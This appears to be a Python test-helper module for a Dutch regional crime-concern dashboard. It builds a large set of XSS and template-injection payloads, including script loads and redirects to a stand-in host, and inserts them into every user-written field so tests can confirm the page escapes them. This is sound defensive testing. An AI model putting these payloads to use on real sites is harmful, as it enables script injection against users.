"""What several tests of the page share."""

from __future__ import annotations

from typing import Any

OPENING = "zorgen_georganiseerde_criminaliteit_buurt"
REGIONS = [f"SR0{number}" for number in range(1, 9)]

#: id of an invented figure for every municipality, with every state and two periods
TRIAL = "proef_per_gemeente"
#: what must stay text wherever it stands
HOSTILE = (
    "</script><script>window.hacked=1</script>\"'{{7*7}}$title\u202e\u2028 "
    "<img src=x onerror=window.hacked=1> 🐄"
)

#: what may end the place a text stands in
_ENDINGS = (
    "", '">', "'>", "</script>", "</style>", "</title></textarea>", "--></noscript>", "]]>",
    "\u2028\u2029", "`;", ")}",
)  # fmt: skip
#: what runs when it is no text any more
_ATTACKS = (
    "<script>window.hacked=1</script>",
    "<script src=https://elders.example/x.js></script>",
    "<img src=x onerror=window.hacked=1>",
    "<svg onload=window.hacked=1><animate onbegin=window.hacked=1 attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<a href=javascript:window.hacked=1 autofocus onfocus=window.hacked=1>x</a>",
    "<details open ontoggle=window.hacked=1>",
    "<input autofocus onfocus=window.hacked=1>",
    "<style>@import'https://elders.example/x.css';*{background:url(https://elders.example/x)}</style>",
    "<base href=https://elders.example/><meta http-equiv=refresh content=0;url=https://elders.example/>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>",
    "<template><script>window.hacked=1</script></template><object data=javascript:window.hacked=1>",
    "onmouseover=window.hacked=1 style=animation:x onanimationstart=window.hacked=1 ",
    "{{constructor.constructor('window.hacked=1')()}}${window.hacked=1}$title $$data",
    ";window.hacked=1;//",
    "<form action=javascript:window.hacked=1><button autofocus>x",
)


def hostile_texts() -> list[str]:
    """Texts that would run in a page that let one of them through: plain, in capitals and as entities."""
    plain = [ending + attack for ending in _ENDINGS for attack in _ATTACKS]
    capitals = [text.upper().replace("WINDOW.HACKED", "window.hacked") for text in plain]
    entities = [text.replace("<", "&lt;").replace('"', "&#34;") + "\x00" for text in plain]
    return list(dict.fromkeys((*plain, *capitals, *entities)))


def in_every_text(payload: dict[str, Any], text: str) -> dict[str, Any]:
    """The payload with a text in every place where a person may have written one."""
    payload["title"] = payload["subtitle"] = text
    payload["maker"] = dict.fromkeys(payload["maker"], text)
    payload["notes"] = [text]
    payload["boundary_source"] = text
    for level in payload["levels"]:
        for area in level["areas"]:
            area["name"] = area["label"] = f"{area['code']} {text}"
            area["note"] = text
    for indicator in payload["indicators"]:
        for key in ("label", "base", "question", "source", "place", "caution", "definition"):
            indicator[key] = text
        for view in indicator["views"]:
            view["interval_note"] = text
            for value in view["values"].values():
                value["note"] = text
    for card in payload["cards"]:
        card.update(dict.fromkeys(("label", "text", "base", "source", "place", "caution"), text))
    for theme in payload["themes"]:
        theme["label"] = text
    payload["search"].append([text, ["GM0014"]])
    return payload


def texts(visit, selector):
    return [text.strip() for text in visit.page.locator(selector).all_inner_texts()]


def sorted_codes(visit):
    return visit.page.locator("#table-rows tr").evaluate_all("rows => rows.map((row) => row.dataset.code)")
